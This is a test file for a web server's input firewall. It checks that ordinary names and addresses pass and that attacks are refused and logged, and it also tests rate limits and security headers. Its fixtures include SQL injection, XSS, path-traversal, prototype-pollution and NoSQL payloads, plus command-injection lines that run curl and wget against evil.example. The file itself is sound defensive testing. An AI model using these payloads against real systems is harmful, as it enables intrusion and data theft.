import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { z } from 'zod';

import { isNormalPath } from '../../server/http/edge/firewall.js';
import { type TestApp, testApp } from '../helpers/app.js';
import { expectProblem } from './problem.js';

const profile = z.strictObject({
  name: z.string().max(100),
  address: z.string().max(200).optional(),
  note: z.string().max(500).optional(),
  password: z.string().max(200).optional(),
  tags: z.array(z.string().max(20)).max(1000).optional(),
  nested: z.unknown().optional(),
});

/** The real app plus the routes a module would declare: a JSON body, a free-text opt-out, a CSV upload. */
async function appWithRoutes(env: Record<string, string> = {}) {
  const t = await testApp({ TEEKA_IP_RATE_LIMIT: '100000', ...env });
  t.app.post('/firewall-check', { schema: { body: profile } }, (request) => ({
    name: request.body.name,
  }));
  t.app.post(
    '/firewall-check/free-text',
    {
      bodyLimit: 65_536,
      config: { firewall: { unscreenedFields: ['body.note'], maxArrayLength: 1000 } },
      schema: { body: profile },
    },
    () => ({ ok: true }),
  );
  t.app.post(
    '/firewall-check/upload',
    { config: { firewall: { contentTypes: ['text/csv'] } } },
    () => ({ ok: true }),
  );
  t.app.addContentTypeParser('text/csv', { parseAs: 'string' }, (_r, body, done) =>
    done(null, body),
  );
  t.app.get(
    '/firewall-check/:id',
    {
      schema: {
        params: z.strictObject({ id: z.string().max(50) }),
        querystring: z.object({ q: z.string().max(100).optional() }),
      },
    },
    (request) => ({ id: request.params.id }),
  );
  return t;
}

let t: TestApp;
beforeAll(async () => {
  t = await appWithRoutes();
});
afterAll(() => t.close());

const post = (url: string, payload: unknown, headers: Record<string, string> = {}) =>
  t.app.inject({
    method: 'POST',
    url,
    headers: { 'content-type': 'application/json', ...headers },
    payload: typeof payload === 'string' ? payload : JSON.stringify(payload),
  });

const firewallLogs = (app: TestApp, requestId: string) =>
  app.logs
    .map(
      (line) =>
        JSON.parse(line) as {
          reqId?: string;
          firewall?: { rule: string; location: string; action: string };
        },
    )
    .filter((entry) => entry.reqId === requestId && entry.firewall)
    .map((entry) => entry.firewall);

describe('legitimate input passes the firewall', () => {
  it.each([
    "O'Brien",
    "D'Souza-Fernandes",
    'Flat #4, 2nd Floor, MG Road, Bengaluru - 560001',
    'House No. 12/B; Near Temple & Post Office',
    'राम कुमार शर्मा',
    'மு. கருணாநிதி',
    'Select one from the list; then update the form',
    'Dose 2 (after 84 days) - 50% done',
    'C/O Mr. Das, P.O. Box 12',
    "Couldn't sleep (fever) and had a rash",
    'Email: ravi+test@example.com',
  ])('accepts %j', async (text) => {
    const response = await post('/firewall-check', {
      name: text.slice(0, 100),
      address: text,
      note: text,
      tags: [text.slice(0, 20)],
    });
    expect(response.statusCode).toBe(200);
    const query = await t.app.inject({ url: `/firewall-check/abc?q=${encodeURIComponent(text)}` });
    expect(query.statusCode).toBe(200);
  });

  it('never screens passwords, which may look like anything', async () => {
    const response = await post('/firewall-check', { name: 'x', password: "' OR 1=1 -- <script>" });
    expect(response.statusCode).toBe(200);
  });
});

describe('attack payloads are refused with a rule id in the log', () => {
  it.each([
    ['sqli', "x' OR '1'='1"],
    ['sqli', '1 UNION SELECT password FROM staff'],
    ['sqli', "admin'--"],
    ['sqli', '1; DROP TABLE beneficiaries'],
    ['sqli', '1 AND pg_sleep(5)'],
    ['xss', '<script>alert(1)</script>'],
    ['xss', '<img src=x onerror=alert(1)>'],
    ['xss', 'javascript:alert(1)'],
    ['xss', '＜script＞alert(1)＜/script＞'],
    ['xss', '%3Cscript%3Ealert(1)%3C%2Fscript%3E'],
    ['path-traversal', '../../etc/passwd'],
    ['path-traversal', '..\\..\\windows\\win.ini'],
    ['command-injection', '; cat /tmp/x'],
    ['command-injection', '$(curl http://evil.example)'],
    ['command-injection', 'a && wget http://evil.example/x'],
  ])('%s: %j in the body, the query and a path parameter', async (rule, payload) => {
    const body = await post('/firewall-check', { name: 'Ravi', address: payload });
    expectProblem(body, 403, 'blocked');
    expect(firewallLogs(t, body.headers['x-request-id'] as string)).toEqual([
      { rule, location: 'body.address', action: 'blocked' },
    ]);
    // The value itself is never logged: it may be a person's data.
    const own = t.logs.filter((line) => line.includes(body.headers['x-request-id'] as string));
    expect(own.join('')).not.toContain(payload);

    const query = await t.app.inject({
      url: `/firewall-check/abc?q=${encodeURIComponent(payload)}`,
    });
    expectProblem(query, 403, 'blocked');
    const param = await t.app.inject({
      url: `/firewall-check/${encodeURIComponent(payload).replaceAll('%2F', '_')}`,
    });
    if (param.statusCode !== 200) expectProblem(param, [400, 403, 404]);
  });

  it.each([
    ['prototype-pollution', '{"name":"x","__proto__":{"admin":true}}', 'body.__proto__'],
    [
      'prototype-pollution',
      '{"name":"x","nested":{"constructor":{"prototype":{"admin":true}}}}',
      'body.nested.constructor',
    ],
    ['nosql-operator', '{"name":"x","nested":{"$where":"sleep(100)"}}', 'body.nested.$where'],
    ['nosql-operator', '{"name":"x","nested":{"$ne":null}}', 'body.nested.$ne'],
  ])('%s keys in JSON: %s', async (rule, payload, location) => {
    const response = await post('/firewall-check', payload);
    expectProblem(response, 400, 'forbidden-key');
    expect(firewallLogs(t, response.headers['x-request-id'] as string)).toEqual([
      { rule, location, action: 'blocked' },
    ]);
    expect(({} as Record<string, unknown>).admin).toBeUndefined();
  });

  it.each([
    '/firewall-check/abc?q[$ne]=1',
    '/firewall-check/abc?__proto__[admin]=1',
    '/firewall-check/abc?a.constructor=1',
  ])('operator and prototype keys in the query: %s', async (url) => {
    expectProblem(await t.app.inject({ url }), 400, 'forbidden-key');
  });

  it('NUL characters and lone surrogates are refused before they reach the database', async () => {
    expectProblem(await post('/firewall-check', '{"name":"a\\u0000b"}'), 400, 'invalid-characters');
    expectProblem(await post('/firewall-check', '{"name":"a\\ud800b"}'), 400, 'invalid-characters');
    expectProblem(
      await t.app.inject({ url: '/firewall-check/abc?q=a%00b' }),
      400,
      'invalid-characters',
    );
  });

  it('a route can leave a free-text field unscreened; structure is still checked', async () => {
    const code = { name: 'x', note: 'Use <script src="/app.js"></script> in the page' };
    expect((await post('/firewall-check/free-text', code)).statusCode).toBe(200);
    expectProblem(
      await post('/firewall-check/free-text', { ...code, address: '<script>' }),
      403,
      'blocked',
    );
    expectProblem(
      await post('/firewall-check/free-text', { name: 'x', note: 'a\u0000' }),
      400,
      'invalid-characters',
    );
  });
});

describe('structure and size', () => {
  it('limits JSON nesting depth and array length, per route', async () => {
    let deep: unknown = 'x';
    for (let i = 0; i < 20; i++) deep = { a: deep };
    expectProblem(await post('/firewall-check', { name: 'x', nested: deep }), 400, 'too-deep');
    const deepArray = '['.repeat(5000) + ']'.repeat(5000);
    expectProblem(
      await post('/firewall-check', `{"name":"x","nested":${deepArray}}`),
      400,
      'too-deep',
    );
    const tags = Array.from({ length: 300 }, () => 'a');
    expectProblem(await post('/firewall-check', { name: 'x', tags }), 400, 'array-too-long');
    expect((await post('/firewall-check/free-text', { name: 'x', tags })).statusCode).toBe(200);
  });

  it('applies the default body limit and a route’s own', async () => {
    const big = { name: 'x', note: 'a'.repeat(20_000) };
    expectProblem(await post('/firewall-check', big), 413, 'body-too-large');
    expect(
      (await post('/firewall-check/free-text', { ...big, note: 'a'.repeat(400) })).statusCode,
    ).toBe(200);
    expectProblem(
      await post('/firewall-check/free-text', { name: 'x', note: 'a'.repeat(70_000) }),
      413,
      'body-too-large',
    );
  });

  it('answers 415 unless the content type is the one the route takes', async () => {
    expectProblem(
      await post('/firewall-check', 'name=x', { 'content-type': 'text/plain' }),
      415,
      'unsupported-media-type',
    );
    expectProblem(
      await post('/firewall-check', '{"name":"x"}', {
        'content-type': 'application/x-www-form-urlencoded',
      }),
      415,
    );
    expectProblem(
      await post('/firewall-check/upload', '{"name":"x"}'),
      415,
      'unsupported-media-type',
    );
    const csv = await post('/firewall-check/upload', 'a,b\n1,2', { 'content-type': 'text/csv' });
    expect(csv.statusCode).toBe(200);
    // A body sent to a route that takes none.
    const get = await t.app.inject({
      method: 'GET',
      url: '/firewall-check/abc',
      headers: { 'content-type': 'application/json' },
      payload: '{"name":"x"}',
    });
    expectProblem(get, 415, 'unsupported-media-type');
    // ...except the empty object many clients send anyway, which carries nothing.
    const empty = await t.app.inject({
      method: 'GET',
      url: '/firewall-check/abc',
      headers: { 'content-type': 'application/json' },
      payload: '{}',
    });
    expect(empty.statusCode).toBe(200);
  });

  it('refuses empty and malformed JSON with 400', async () => {
    expectProblem(await post('/firewall-check', ''), 400, 'malformed-json');
    expectProblem(await post('/firewall-check', '{"name":'), 400, 'malformed-json');
  });

  it('limits the URL length, header count and header size', async () => {
    expectProblem(
      await t.app.inject({ url: `/firewall-check/abc?q=${'a'.repeat(3000)}` }),
      414,
      'uri-too-long',
    );
    const many = Object.fromEntries(Array.from({ length: 80 }, (_, i) => [`x-h${i}`, 'v']));
    expectProblem(await t.app.inject({ url: '/healthz', headers: many }), 431, 'too-many-headers');
    expectProblem(
      await t.app.inject({ url: '/healthz', headers: { 'x-big': 'a'.repeat(9000) } }),
      431,
      'headers-too-large',
    );
  });

  it.each(['/firewall-check/..%2f..%2fetc', '/firewall-check/a%00b', '/firewall-check/a%5cb'])(
    'refuses an abnormal path: %s',
    async (url) => {
      expectProblem(await t.app.inject({ url }), 400, 'bad-path');
    },
  );

  it('treats dot segments as abnormal (inject resolves them, a raw socket does not)', () => {
    for (const path of ['/a/../b', '/a/%2e%2e/b', '/a/.%2E/b', '/a/./b', '/a\\b'])
      expect(isNormalPath(path)).toBe(false);
    for (const path of ['/a/b', '/a/..b', '/a/b.', '/api/v2/x/1.5'])
      expect(isNormalPath(path)).toBe(true);
  });
});

describe('report-only mode', () => {
  it('logs attack patterns without refusing them, but still refuses what must never pass', async () => {
    const report = await appWithRoutes({ TEEKA_FIREWALL: 'report' });
    try {
      const response = await report.app.inject({
        method: 'POST',
        url: '/firewall-check',
        payload: { name: "x' OR '1'='1" },
      });
      expect(response.statusCode).toBe(200);
      expect(firewallLogs(report, response.headers['x-request-id'] as string)).toEqual([
        { rule: 'sqli', location: 'body.name', action: 'reported' },
      ]);
      const proto = await report.app.inject({
        method: 'POST',
        url: '/firewall-check',
        headers: { 'content-type': 'application/json' },
        payload: '{"name":"x","__proto__":{"a":1}}',
      });
      expectProblem(proto, 400, 'forbidden-key');
    } finally {
      await report.close();
    }
  });
});

describe('per-IP budget', () => {
  it('answers 429 with Retry-After once an address spends its budget, on every route', async () => {
    const limited = await testApp({ TEEKA_IP_RATE_LIMIT: '5' });
    try {
      for (let i = 0; i < 5; i++)
        expect((await limited.app.inject('/healthz')).statusCode).toBe(200);
      const refused = await limited.app.inject('/api/v2/admin/location/states');
      expectProblem(refused, 429, 'rate-limited');
      expect(Number(refused.headers['retry-after'])).toBeGreaterThan(0);
      const other = await limited.app.inject({ url: '/healthz', remoteAddress: '10.0.0.9' });
      expect(other.statusCode).toBe(200);
    } finally {
      await limited.close();
    }
  });
});

describe('security headers', () => {
  it('are on every response, refusals included', async () => {
    for (const response of [
      await t.app.inject('/api/v2/admin/location/states'),
      await t.app.inject('/no/such/path'),
      await post('/firewall-check', { name: '<script>' }),
    ]) {
      const csp = String(response.headers['content-security-policy']);
      expect(csp).toContain("script-src 'self'");
      expect(csp).toContain("frame-ancestors 'none'");
      expect(csp).toContain("object-src 'none'");
      expect(csp.match(/script-src [^;]*/)?.[0]).not.toContain('unsafe-inline');
      expect(response.headers['x-content-type-options']).toBe('nosniff');
      expect(response.headers['referrer-policy']).toBe('no-referrer');
      expect(response.headers['cross-origin-opener-policy']).toBe('same-origin');
      expect(response.headers['cross-origin-resource-policy']).toBe('same-origin');
      expect(response.headers['x-frame-options']).toBe('DENY');
      expect(response.headers['strict-transport-security']).toBe(
        'max-age=31536000; includeSubDomains',
      );
    }
  });

  it('keep /docs working: swagger-ui loads only its own script files, no inline script', async () => {
    const page = await t.app.inject('/docs/');
    expect(page.statusCode).toBe(200);
    expect(page.body).not.toMatch(/<script(?![^>]*\bsrc=)[^>]*>/);
    const scripts = [...page.body.matchAll(/<script src="([^"]+)"/g)].map((m) => m[1] ?? '');
    expect(scripts.length).toBeGreaterThan(0);
    for (const src of scripts) {
      const script = await t.app.inject(new URL(src, 'http://x/docs/').pathname);
      expect(script.statusCode).toBe(200);
    }
  });
});
